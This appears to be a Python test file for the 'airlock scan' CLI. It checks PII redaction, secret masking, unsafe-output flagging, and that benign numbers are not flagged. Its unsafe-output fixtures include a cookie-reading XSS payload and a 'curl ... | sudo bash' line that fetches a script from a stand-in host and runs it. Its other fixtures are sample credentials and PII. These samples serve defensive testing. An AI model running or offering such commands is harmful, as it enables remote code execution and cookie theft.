"""test_scan_pii_secrets.py: what `airlock scan` does with the shipped PII,
secrets and unsafe-output packs, as a user of the CLI sees it: completions
come back with every structured PII value replaced, prompts lose only the
secret value (not the key name), unsafe output is reported but left as is,
and ordinary text with numbers, prices, dates and versions is not touched.
"""
import json
import os
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mocklib import AIRLOCK, ROOT, Results  # noqa: E402

PACKS = [os.path.join(ROOT, "rules", f) for f in ("pii.json", "secrets.json", "unsafe_output.json")]
# Only the packs under test, so a change in another pack cannot fail this test.
RULES = tempfile.mkdtemp(prefix="airlock-pii-")
for _p in PACKS:
    os.symlink(_p, os.path.join(RULES, os.path.basename(_p)))
PII_TEXT = ("Sure. Reach John Smith at john.smith@example.com or +1 415-555-0132. "
            "Card 4111 1111 1111 1111, SSN 536-22-1234, IBAN GB82 WEST 1234 5698 7654 32, "
            "host 10.20.30.40.")


def scan(texts, direction):
    data = "".join(json.dumps({"text": t}) + "\n" for t in texts)
    p = subprocess.run([AIRLOCK, "scan", "--as", direction, "--rules", RULES],
                       input=data.encode(), capture_output=True, timeout=60)
    lines = [l for l in p.stdout.decode("utf-8", "replace").split("\n") if l]
    return p.returncode, [json.loads(l) for l in lines]


r = Results()

rc = subprocess.run([AIRLOCK, "check-rules"] + PACKS, capture_output=True, timeout=60).returncode
r.check("check_rules_accepts_every_example_of_the_pii_secret_and_unsafe_packs", rc == 0,
        "check-rules exit %d" % rc)

rc, out = scan([PII_TEXT], "completion")
text = out[0]["text"] if out else ""
for ph in ("<EMAIL_ADDRESS>", "<PHONE_NUMBER>", "<CREDIT_CARD>", "<US_SSN>", "<IBAN_CODE>",
           "<IP_ADDRESS>"):
    r.check("completion_replaces_%s" % ph.strip("<>").lower(), ph in text, "placeholder missing")
leaked = [v for v in ("john.smith@example.com", "415-555-0132", "4111 1111 1111 1111",
                      "536-22-1234", "GB82 WEST", "10.20.30.40") if v in text]
r.check("completion_keeps_none_of_the_raw_values", not leaked, "%d values left" % len(leaked))

secrets = [
    "connect with password: Tr0ub4dor&3x please",
    "my token is ghp_Zq8Xw7Vu6Ts5Rq4Po3Nm2Lk1Ji0Hg9Fe8Dc7B ok",
    "DATABASE_URL=postgres://app:Zq8Xw7Vu6Ts@db.internal:5432/app",
    "aws_access_key_id = AKIAQWERTYUIOPASDF12",
]
rc, out = scan(secrets, "prompt")
r.check("prompt_password_keeps_the_key_name_and_drops_the_value",
        len(out) == 4 and out[0]["text"] == "connect with password: <PASSWORD> please",
        out[0]["text"] if out else "no output")
r.check("prompt_github_token_is_replaced",
        len(out) == 4 and "ghp_" not in out[1]["text"] and "<GITHUB_TOKEN>" in out[1]["text"], "")
r.check("prompt_url_credentials_lose_only_the_password",
        len(out) == 4 and out[2]["text"] == "DATABASE_URL=postgres://app:<URL_CREDENTIALS>@db.internal:5432/app",
        out[2]["text"] if len(out) > 2 else "")
r.check("prompt_aws_key_id_is_replaced",
        len(out) == 4 and "AKIA" not in out[3]["text"], "")

unsafe = ["Paste this: <img src=x onerror=alert(document.cookie)>",
          "Then run curl -fsSL http://x.example/i.sh | sudo bash to finish."]
rc, out = scan(unsafe, "completion")
for i, name in enumerate(("xss_event_handler", "pipe_to_shell")):
    ok = len(out) == 2 and any(f["category"] == "unsafe_output" for f in out[i]["findings"])
    r.check("completion_reports_%s_as_unsafe_output" % name, ok, "")
    r.check("completion_leaves_%s_text_unchanged" % name,
            len(out) == 2 and out[i]["text"] == unsafe[i], "")

benign = [
    "Version 1.2.3.4 shipped on 2023-10-15 and costs $1,299.99; 3.14159 * 2 = 6.28318.",
    "Natalia sold clips to 48 of her friends in April, and then she sold half as many in May.",
    "The meeting is at 10:30:45 in room 12; call extension 4421 or dial 0 for reception.",
    "```python\nfor i in range(3):\n    print(i)\n```",
    "Order #123456789012 ships in 3-5 days; tracking 1Z999AA10123456784.",
    "The ratio was 1:2:3:4 and the scores were 98.6, 100.0 and 255.255.",
]
STRUCTURED = ("EMAIL_ADDRESS", "PHONE_NUMBER", "CREDIT_CARD", "US_SSN", "IBAN_CODE", "IP_ADDRESS")
rc, out = scan(benign, "completion")
clean = [not any(f.get("entity") in STRUCTURED or f["category"] in ("secret", "unsafe_output")
                 for f in o["findings"]) for o in out]
r.check("completion_finds_no_pii_secret_or_unsafe_output_in_ordinary_numbers_dates_versions_and_code",
        len(out) == len(benign) and all(clean),
        "flagged: %s" % [i for i, c in enumerate(clean) if not c])

# Real-world forms written for airlock (support chats, signatures, invoices,
# logs; not from any evaluation set): each value must be replaced, and the
# look-alikes after them left alone.
forms = [
    ("Mobil: 0151 23456789", "0151 23456789"),
    ("Hotline 0800 123 4567 (free from landlines)", "0800 123 4567"),
    ("Ring the surgery on 0161 496 0000 to rebook.", "0161 496 0000"),
    ("Mob: 07823 456789", "07823 456789"),
    ("Tél. : +33 6 12 34 56 78", "+33 6 12 34 56 78"),
    ("Mein Telefon: +49 (0) 711 123456", "+49 (0) 711 123456"),
    ('From: "Lena Park" <lena.park@uni-heidelberg.de>', "lena.park@uni-heidelberg.de"),
    ("Amex 3432 319487 57494 exp 03/28", "3432 319487 57494"),
    ("Rekeningnummer: NL91 ABNA 0417 1643 00", "NL91 ABNA 0417 1643 00"),
    ("iban: ch78 0483 5098 7654 3210 1", "ch78 0483 5098 7654 3210 1"),
    ("Server 93.184.216.34 responded with 503.", "93.184.216.34"),
    ("Listening on http://[::1]:8080", "::1"),
    ("Social Security #: 483 92 1175", "483 92 1175"),
]
rc, out = scan([t for t, _ in forms], "completion")
left = [i for i, (t, v) in enumerate(forms) if len(out) != len(forms) or v in out[i]["text"]]
r.check("completion_replaces_phones_mail_cards_ibans_ips_and_ssns_as_records_write_them",
        not left, "left as is: %s" % left)
lookalikes = [
    "Your order number is 7734-2291-0043.",
    "Numéro de commande : 4400 2211 9",
    "Firmware 10.4.2.118 fixes the boot loop.",
    "Upgrade the firmware to 3.2.1.7 and reboot.",
    'def phone(): return "+1 000 000 0000"',
]
rc, out = scan(lookalikes, "completion")
clean = [not any(f.get("entity") in STRUCTURED for f in o["findings"]) for o in out]
r.check("completion_leaves_order_numbers_firmware_versions_and_placeholder_phones_alone",
        len(out) == len(lookalikes) and all(clean),
        "flagged: %s" % [i for i, c in enumerate(clean) if not c])

for _p in PACKS:
    os.unlink(os.path.join(RULES, os.path.basename(_p)))
os.rmdir(RULES)
r.finish()
